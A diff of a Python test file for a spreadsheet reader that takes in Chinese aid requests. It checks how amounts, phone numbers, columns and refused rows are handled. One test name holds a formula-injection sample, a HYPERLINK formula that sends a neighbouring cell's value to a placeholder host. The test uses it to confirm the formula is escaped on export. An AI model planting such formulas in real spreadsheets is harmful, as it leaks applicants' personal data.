@@ -5,14 +5,17 @@ import io
 from collections import Counter
 from pathlib import Path
 
+import openpyxl
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from services.intake.channels.spreadsheet import RefusedRow, Row, read
+from services.intake.channels.spreadsheet import RequestRow, read_requests
 from services.intake.rules import Rules, problems_of
 from shared.contracts.values import Channel, Need
 from shared.errors import Invalid
+from shared.sheets import RefusedRow, write_refused
+from shared.text import clean_text
 
 REAL = Path(__file__).parents[3] / "shared/data/wuhan2020/hospital_need_events.csv"
 GOOD = {
@@ -35,13 +38,13 @@ def table(*rows: dict[str, str], encoding: str = "utf-8") -> bytes:
     return out.getvalue().encode(encoding)
 
 
-def rows_of(*rows: dict[str, str], encoding: str = "utf-8") -> list[Row | RefusedRow]:
-    return list(read(table(*rows, encoding=encoding), Channel.SPREADSHEET))
+def rows_of(*rows: dict[str, str], encoding: str = "utf-8") -> list[RequestRow | RefusedRow]:
+    return list(read_requests(table(*rows, encoding=encoding), Channel.SPREADSHEET))
 
 
-def good(row: dict[str, str]) -> Row:
+def good(row: dict[str, str]) -> RequestRow:
     (found,) = rows_of(row)
-    assert isinstance(found, Row)
+    assert isinstance(found, RequestRow)
     return found
 
 
@@ -76,7 +79,7 @@ def test_english_headers_and_codes_become_the_same_request() -> None:
 @pytest.mark.parametrize("encoding", ["utf-8", "utf-8-sig", "gb18030"])
 def test_the_encodings_of_spreadsheets_are_read(encoding: str) -> None:
     (found,) = rows_of(GOOD, encoding=encoding)
-    assert isinstance(found, Row)
+    assert isinstance(found, RequestRow)
     assert found.request.applicant.name == "张三"
 
 
@@ -96,15 +99,21 @@ def test_a_village_by_name_stays_readable() -> None:
 @pytest.mark.parametrize(
     ("field", "value", "code"),
     [
-        ("金额", "abc", "not_an_amount"),
-        ("金额", "1.001", "not_an_amount"),
-        ("金额", "-5", "not_an_amount"),
-        ("金额", "NaN", "not_an_amount"),
-        ("手机", "1.38E+10", "not_a_mobile"),
-        ("镇街", "火星镇", "unknown_town"),
-        ("类别", "什么", "unknown_word"),
-        ("困难类别", "", "missing"),
-        ("姓名", "", "missing"),
+        ("金额", "abc", "amount_wrong"),
+        ("金额", "1.001", "amount_fractional"),
+        ("金额", "-5", "amount_signed"),
+        ("金额", "NaN", "amount_wrong"),
+        ("金额", "200,50", "amount_wrong"),
+        ("金额", "1,5", "amount_wrong"),
+        ("金额", "1_000", "amount_wrong"),
+        ("金额", "2E+05", "amount_abbreviated"),
+        ("金额", "HK$100", "currency_foreign"),
+        ("手机", "138****8000", "phone_masked"),
+        ("手机", "1.38E+10", "phone_abbreviated"),
+        ("镇街", "火星镇", "town_unknown"),
+        ("类别", "什么", "word_unknown"),
+        ("困难类别", "", "value_missing"),
+        ("姓名", "", "value_missing"),
     ],
 )
 def test_a_wrong_cell_is_refused_with_its_field(field: str, value: str, code: str) -> None:
@@ -122,7 +131,7 @@ def test_every_wrong_cell_of_a_row_is_said() -> None:
 
 def test_bad_rows_do_not_hold_back_good_ones() -> None:
     found = rows_of(GOOD, GOOD | {"金额": "x"}, GOOD | {"金额": "1"})
-    assert [type(row) for row in found] == [Row, RefusedRow, Row]
+    assert [type(row) for row in found] == [RequestRow, RefusedRow, RequestRow]
     assert [row.line for row in found] == [2, 3, 4]
 
 
@@ -139,8 +148,8 @@ def test_a_number_of_its_own_is_the_key() -> None:
 
 
 def test_the_channel_is_part_of_the_key() -> None:
-    (row,) = read(table(GOOD), Channel.HOTLINE)
-    assert isinstance(row, Row)
+    (row,) = read_requests(table(GOOD), Channel.HOTLINE)
+    assert isinstance(row, RequestRow)
     assert row.key != good(GOOD).key
     assert row.request.channel is Channel.HOTLINE
 
@@ -148,19 +157,174 @@ def test_the_channel_is_part_of_the_key() -> None:
 @pytest.mark.parametrize("content", [b"a,b\n1,2\n", b"", b"\xff\xfe\x00\x01"])
 def test_what_is_no_table_of_requests_is_refused_whole(content: bytes) -> None:
     with pytest.raises(Invalid):
-        list(read(content, Channel.SPREADSHEET))
+        list(read_requests(content, Channel.SPREADSHEET))
 
 
 @given(st.lists(st.fixed_dictionaries({name: st.text(max_size=12) for name in GOOD}), max_size=4))
 def test_whatever_the_cells_hold_every_row_is_answered(rows: list[dict[str, str]]) -> None:
     if rows:
-        kept = [row for row in rows if any(row.values())]
+        kept = [row for row in rows if any(map(clean_text, row.values()))]
         content = table(*rows)
         try:
-            found = list(read(content, Channel.SPREADSHEET))
+            found = list(read_requests(content, Channel.SPREADSHEET))
         except Invalid:
             return
         assert len(found) >= len(kept)
+
+
+# --- as people write ---
+
+
+@pytest.mark.parametrize(
+    ("amount", "fen"),
+    [
+        ("￥200", 20_000),
+        ("2万元", 2_000_000),
+        ("300元整", 30_000),
+        ("人民币200元", 20_000),
+        ("１，０００", 100_000),
+        ("三百元", 30_000),
+    ],
+)
+def test_an_amount_is_read_as_people_write_it(amount: str, fen: int) -> None:
+    assert good(GOOD | {"金额": amount}).request.need.quantity == fen
+
+
+@pytest.mark.parametrize(
+    "phone",
+    [
+        "\u202d13800138000\u202c",
+        "13800138000\u200b",
+        "138\u20110013\u20118000",
+        "１３８００１３８０００",
+        "（86）13800138000",
+        "008613800138000",
+        '="13800138000"',
+        "'13800138000",
+        "17951 13800138000",
+    ],
+)
+def test_a_phone_is_read_as_people_write_it(phone: str) -> None:
+    assert good(GOOD | {"手机": phone}).request.applicant.phone == "+8613800138000"
+
+
+def test_items_and_units_are_folded_before_they_are_compared() -> None:
+    row = {k: v for k, v in GOOD.items() if k != "金额"}
+    row |= {"物品": "Ａ4纸　", "数量": "２", "单位": " 包\u200b"}
+    assert good(row).request.need == Need(unit="包", quantity=2, item="A4纸")
+
+
+def test_a_fraction_of_a_thing_is_refused() -> None:
+    row = {k: v for k, v in GOOD.items() if k != "金额"} | {"数量": "1,5", "单位": "床"}
+    assert [problem.code for problem in refused(row).problems] == ["quantity_wrong"]
+
+
+def test_money_may_be_counted_in_ten_thousands_and_soap_in_pieces() -> None:
+    row = {k: v for k, v in GOOD.items() if k != "金额"} | {"数量": "2"}
+    assert good(row | {"单位": "万元"}).request.need.quantity == 2_000_000
+    soap = good(row | {"单位": "块", "物品": "香皂"}).request.need
+    assert soap == Need(unit="块", quantity=2, item="香皂")
+
+
+def test_an_amount_in_another_currency_is_refused() -> None:
+    row = refused(GOOD | {"币种": "HKD"})
+    assert [problem.code for problem in row.problems] == ["currency_foreign"]
+    assert good(GOOD | {"币种": "人民币"}).key == good(GOOD).key
+
+
+def test_a_village_code_that_lost_its_digits_is_no_name() -> None:
+    row = refused(GOOD | {"村居": "4.419E+11"})
+    assert [problem.code for problem in row.problems] == ["village_unknown"]
+
+
+# --- the shape of the table ---
+
+HEADER = "姓名,手机,类别,困难类别,镇街,内容,金额\n"
+
+
+def read_text(text: str) -> list[RequestRow | RefusedRow]:
+    return list(read_requests(text.encode(), Channel.SPREADSHEET))
+
+
+def test_an_amount_that_nobody_quoted_is_a_cell_too_many() -> None:
+    (row,) = read_text(HEADER + "张三,13800138000,生活物资,低保,茶山镇,棉被,1,000\n")
+    assert isinstance(row, RefusedRow)
+    assert [problem.code for problem in row.problems] == ["cells_surplus"]
+
+
+def test_no_person_disappears_in_a_quote() -> None:
+    found = read_text(
+        "姓名,手机,类别,困难类别,镇街,金额,内容\n"
+        '张三,13800138000,生活物资,低保,茶山镇,200,"急用\n'
+        "李四,13900139000,助学,低保,茶山镇,300,学费\n"
+        "王五,13700137000,助学,低保,茶山镇,400,书包\n"
+    )
+    assert [(type(row), row.line) for row in found] == [
+        (RefusedRow, 2),
+        (RequestRow, 3),
+        (RequestRow, 4),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("header", "row"),
+    [
+        (
+            "姓名,手机,类别,困难类别,镇街,金额,收集人,联系电话",
+            "张三,13800138000,生活物资,低保,茶山镇,200,C-07,13911112222",
+        ),
+        ("姓名,手机,手机,类别,困难类别,镇街,金额", "张三,1,2,生活物资,低保,茶山镇,200"),
+        ("金额,姓名,类别,困难类别,镇街,申请金额", "200,张三,生活物资,低保,茶山镇,300"),
+    ],
+)
+def test_two_columns_of_one_meaning_are_refused_whole(header: str, row: str) -> None:
+    with pytest.raises(Invalid) as error:
+        read_text(f"{header}\n{row}\n")
+    assert error.value.problems[0].code == "columns_repeated"
+
+
+def test_a_title_above_the_header_is_skipped_and_a_total_below_is_no_person() -> None:
+    content = (
+        "茶山镇2026年1月微心愿汇总表,,,,,,\n".encode() + table(GOOD) + "合计,,,,200.50,,\n".encode()
+    )
+    (row,) = read_requests(content, Channel.SPREADSHEET)
+    assert isinstance(row, RequestRow)
+    assert (row.line, row.key) == (3, good(GOOD).key)
+
+
+def test_columns_that_are_not_read_are_listed() -> None:
+    sheet = read_requests(table(GOOD | {"联系方式备注": "x"}), Channel.SPREADSHEET)
+    assert sheet.table.unread == ("联系方式备注",)
+
+
+def test_a_workbook_is_read_like_its_csv() -> None:
+    book = openpyxl.Workbook()
+    assert book.active is not None
+    book.active.append(list(GOOD))
+    book.active.append(list(GOOD.values()))
+    out = io.BytesIO()
+    book.save(out)
+    (row,) = read_requests(out.getvalue(), Channel.SPREADSHEET)
+    assert isinstance(row, RequestRow)
+    assert (row.key, row.request) == (good(GOOD).key, good(GOOD).request)
+
+
+def test_a_refused_row_comes_back_as_it_was_and_is_corrected_there(tmp_path: Path) -> None:
+    name = '=HYPERLINK("http://a.example/?"&B2,"查看")'
+    content = table(GOOD | {"姓名": name, "手机": "138"})
+    sheet = read_requests(content, Channel.SPREADSHEET)
+    rows = [row for row in sheet if isinstance(row, RefusedRow)]
+    target = tmp_path / "refused.csv"
+    write_refused(target, sheet.table.headers, rows)
+    text = target.read_text("utf-8-sig")
+    assert "\"'=HYPERLINK" in text
+    target.write_text(text.replace(",138,", ",13800138000,"), "utf-8-sig")
+    corrected = read_requests(target.read_bytes(), Channel.SPREADSHEET)
+    (row,) = corrected
+    assert isinstance(row, RequestRow)
+    assert row.request.applicant.name == name
+    assert corrected.table.unread == ()
+    assert row.key == good(GOOD | {"姓名": name, "手机": "13800138000"}).key
 
 
 def hospital(**changed: str) -> dict[str, str]:
@@ -205,7 +369,7 @@ def test_a_hospitals_row_that_is_no_need_says_so(changed: dict[str, str]) -> Non
 def test_the_real_hospital_file_is_read_to_the_last_row() -> None:
     if not REAL.exists():
         pytest.skip(f"the real data is not here: {REAL}")
-    found = list(read(REAL.read_bytes(), Channel.SPREADSHEET))
+    found = list(read_requests(REAL.read_bytes(), Channel.SPREADSHEET))
     with REAL.open(encoding="utf-8", newline="") as file:
         raw = list(csv.DictReader(file))
     needed = [
@@ -215,5 +379,7 @@ def test_the_real_hospital_file_is_read_to_the_last_row() -> None:
     ]
     assert len(found) == len(raw)
     kinds = Counter(type(row).__name__ for row in found)
-    assert kinds["Row"] == len(needed)
-    assert all(problems_of(Rules(), row.request) == () for row in found if isinstance(row, Row))
+    assert kinds["RequestRow"] == len(needed)
+    assert all(
+        problems_of(Rules(), row.request) == () for row in found if isinstance(row, RequestRow)
+    )
